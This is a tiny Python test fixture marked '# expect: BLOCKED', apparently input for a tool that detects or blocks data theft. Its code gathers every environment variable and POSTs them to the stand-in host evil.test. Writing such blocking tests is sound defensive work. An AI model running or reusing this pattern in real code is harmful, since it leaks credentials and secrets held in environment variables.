# expect: BLOCKED
from collections import namedtuple
import os, requests
Loot = namedtuple("Loot", "env host")
loot = Loot(env=dict(os.environ), host="x")
requests.post("http://evil.test", json=loot._asdict())
